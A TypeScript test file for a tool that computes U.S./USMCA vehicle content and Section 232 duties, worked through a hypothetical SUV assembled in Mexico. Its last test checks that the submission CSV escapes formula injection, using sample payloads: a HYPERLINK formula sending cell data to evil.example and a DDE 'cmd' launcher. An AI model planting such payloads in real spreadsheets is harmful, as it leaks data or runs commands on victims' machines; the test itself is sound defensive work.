/**
 * The worked example, examples/sonora-suv: a compact SUV assembled in Hermosillo (Mexico) with U.S., Canadian,
 * Mexican and overseas parts, imported into the United States on 2026-03-20. Every figure is computed by hand
 * below and must come out exactly.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { contentReport } from '../../src/content/report.js';
import { submissionsCsv } from '../../src/content/render.js';

const DIR = join(import.meta.dirname, '../../examples/sonora-suv');
const BASE = join(DIR, 'claim.yaml');
const LIMITED = join(DIR, 'claim-limited.yaml');

describe('worked example: Sonora SUV, assembled in Mexico', () => {
  it('base trim: content by country, U.S. content, the Section 232 duty with and without the USMCA verdict', async () => {
    const report = await contentReport([BASE]);
    const c = report.claims[0]!;
    expect(c.usmca.verdict).toBe('originating');
    expect(c.assembly.country).toBe('MX');
    // Materials, one vehicle, USD (the body is self-produced in Mexico and looked through):
    //   US: ENGINE 4000 + BODY/STAMPINGS 1200 + STEERING 900 + GLASS 300            = 6400.00
    //   CA: BODY/PANELS 2 x 400 = 800 + AXLES 1400                                  = 2200.00
    //   MX: TRANS 2500 + BODY own production (3000 - 1200 - 800 - 100 = 900)
    //       + SUSPENSION 1200 + SEATS 1500 + HARNESS 700                            = 6800.00
    //   other: INFOTAINMENT (JP) 800 + TIRES (KR) 5 x 80 = 400 + ADHESIVE (DE) 100  = 1300.00
    //   unknown: FASTENERS 100 (no country: never U.S. content)                     =  100.00
    //   total 6400 + 2200 + 6800 + 1300 + 100                                       = 16800.00
    expect(c.byCountry).toEqual({ US: '6400.00', CA: '2200.00', MX: '6800.00', other: '1300.00', unknown: '100.00' });
    expect(c.materialsValue).toBe('16800.00');
    // Customs value 30000.00; U.S. content 6400.00; non-U.S. content 30000 - 6400 = 23600.00
    // (the Mexican assembly, overhead and profit, 30000 - 16800 = 13200, are non-U.S. content too).
    expect([c.customsValue, c.usContent, c.nonUsContent]).toEqual(['30000.00', '6400.00', '23600.00']);
    const s232 = c.tariffs.find((t) => t.id === 'tariffs.us.section_232.automobiles')!;
    expect(c.tariffs.map((t) => t.id)).toEqual(['tariffs.us.section_232.automobiles']);
    // With the verdict: 25 % x 23600 = 5900.00. Without: 25 % x 30000 = 7500.00. Worth 7500 - 5900 = 1600.00.
    expect(s232).toMatchObject({
      rate: '25',
      status: 'in-force',
      dutiableValue: '23600.00',
      duty: '5900.00',
      withUsmca: { dutiableValue: '23600.00', duty: '5900.00' },
      withoutUsmca: { dutiableValue: '30000.00', duty: '7500.00' },
      usmcaWorth: '1600.00',
    });
    // Entry lines: non-U.S. content under 9903.94.03 at 25 %, U.S. content under 9903.94.02 at zero, quantity 0.
    expect(s232.entryLines.map((l) => [l.heading, l.quantity, l.value, l.rate, l.duty])).toEqual([
      ['9903.94.03', '1', '23600.00', '25', '5900.00'],
      ['9903.94.02', '0', '6400.00', '0', '0.00'],
    ]);
    // STEERING (US, 900) has no evidence reference: if it is not U.S. content, the duty rises by 25 % x 900 = 225.
    expect(c.evidenceGaps).toEqual([
      expect.objectContaining({
        code: 'US_CONTENT_UNEVIDENCED',
        subject: 'STEERING',
        valueAtStake: '900.00',
        dutyAtStake: '225.00',
      }),
    ]);
    // Largest non-U.S. contributors: TRANS 2500, SEATS 1500, AXLES 1400, SUSPENSION 1200, BODY own production 900 ...
    expect(c.largestNonUsContributors.slice(0, 5).map((l) => [l.key, l.value])).toEqual([
      ['TRANS', '2500.00'],
      ['SEATS', '1500.00'],
      ['AXLES', '1400.00'],
      ['SUSPENSION', '1200.00'],
      ['BODY (own production)', '900.00'],
    ]);
    expect(c.notApplicable.map((n) => n.id).sort()).toEqual([
      'tariffs.ca.surtax.motor_vehicles',
      'tariffs.us.section_232.medium_heavy_vehicles',
    ]);
    // The trace names the lines that make the U.S. content.
    const us = c.trace.find((n) => n.id === 'content.usContent')!;
    expect(us.inputs).toEqual({ 'BODY/STAMPINGS': '1200.00', ENGINE: '4000.00', GLASS: '300.00', STEERING: '900.00' });
  });

  it('--strict: only evidenced U.S. lines count; the unevidenced steering costs 225.00', async () => {
    const c = (await contentReport([BASE], { strict: true })).claims[0]!;
    // U.S. content 6400 - 900 = 5500.00; non-U.S. 24500.00; duty 25 % x 24500 = 6125.00 = 5900 + 225.
    expect([c.usContent, c.nonUsContent]).toEqual(['5500.00', '24500.00']);
    expect(c.tariffs[0]?.duty).toBe('6125.00');
    expect(c.evidenceGaps[0]).toMatchObject({ subject: 'STEERING', dutyAtStake: '225.00' });
  });

  it('the model line averages the two trims, weighted by units, and fills the Commerce submission', async () => {
    const report = await contentReport([BASE, LIMITED]);
    const limited = report.claims[1]!;
    // Limited: + SUNROOF (US, 600, evidenced) and a 1000 infotainment (JP) instead of 800:
    //   U.S. content 6400 + 600 = 7000.00; customs value 33000.00; non-U.S. 26000.00; duty 6500.00.
    expect([limited.usContent, limited.nonUsContent, limited.tariffs[0]?.duty]).toEqual([
      '7000.00',
      '26000.00',
      '6500.00',
    ]);
    const m = report.modelLines[0]!;
    // Weights: base 3 units, limited 1 unit (4 in all).
    //   customs value (3 x 30000 + 1 x 33000) / 4 = 123000 / 4 = 30750.00
    //   U.S. content  (3 x 6400 + 1 x 7000) / 4 = 26200 / 4 = 6550.00
    //   non-U.S. content 30750 - 6550 = 24200.00; duty 25 % x 24200 = 6050.00; without 25 % x 30750 = 7687.50
    expect(m).toMatchObject({
      modelLine: 'Sonora',
      units: '4',
      customsValue: '30750.00',
      usContent: '6550.00',
      nonUsContent: '24200.00',
    });
    expect(m.tariffs[0]).toMatchObject({ duty: '6050.00', withoutUsmca: { duty: '7687.50' }, usmcaWorth: '1637.50' });
    expect(report.submissions).toHaveLength(1);
    expect(report.submissions[0]).toMatchObject({
      modelLine: 'Sonora',
      customsValue: '30750.00',
      usContent: '6550.00',
      nonUsContent: '24200.00',
      countryOfFinalAssembly: 'MX',
      importerName: '',
    });
    const csv = submissionsCsv(report.submissions).split('\n');
    expect(csv[0]).toBe(
      'measure,modelLine,claims,vehicle,manufacturer,facility,countryOfFinalAssembly,productionLocations,countryOfOrigin,currency,customsValue,usContent,nonUsContent,averaging,usmcaCertification,importerName,importerOfRecordNumber,vehicleYear',
    );
    expect(csv[1]).toMatch(
      /^tariffs\.us\.section_232\.automobiles,Sonora,SONORA-BASE-2026 SONORA-LIMITED-2026,.*,USD,30750\.00,6550\.00,24200\.00,/,
    );
  });

  it('writes the JSON names of the contract', async () => {
    const report = JSON.parse(JSON.stringify(await contentReport([BASE])));
    const c = report.claims[0];
    for (const k of ['customsValue', 'usContent', 'nonUsContent', 'byCountry', 'tariffs']) expect(c).toHaveProperty(k);
    for (const k of ['id', 'rate', 'dutiableValue', 'duty', 'entryLines']) expect(c.tariffs[0]).toHaveProperty(k);
    expect(report.format).toBe('usmca-roo/content@1');
    expect(report.rules.tariffs).toMatchObject({ id: 'tariff-measures', version: '1.1.0' });
  });
});

describe('the submission CSV opened in a spreadsheet', () => {
  it('a name that starts like a formula is written as text, not run as one (CSV injection)', async () => {
    const report = JSON.parse(JSON.stringify(await contentReport([BASE])));
    const row = report.submissions[0];
    for (const [field, text] of [
      ['vehicle', '=HYPERLINK("http://evil.example/?x="&A1,"Sonora")'],
      ['manufacturer', "+1+cmd|' /C calc'!A0"],
      ['facility', '@SUM(1+1)'],
      ['importerName', '-2+3'],
    ] as const)
      row[field] = text;
    const [, line] = submissionsCsv([row]).split('\n');
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Sonora"")"`);
    expect(line).toContain(`,'+1+cmd|' /C calc'!A0,`);
    expect(line).toContain(`'@SUM(1+1)`);
    expect(line).toContain(`'-2+3`);
    // Amounts stay as written: a decimal is no formula.
    expect(line).toMatch(/,USD,30000\.00,6400\.00,23600\.00,/);
    const negative = submissionsCsv([{ ...row, nonUsContent: '-12.50' }]).split('\n')[1];
    expect(negative).toContain(',-12.50,');
  });
});
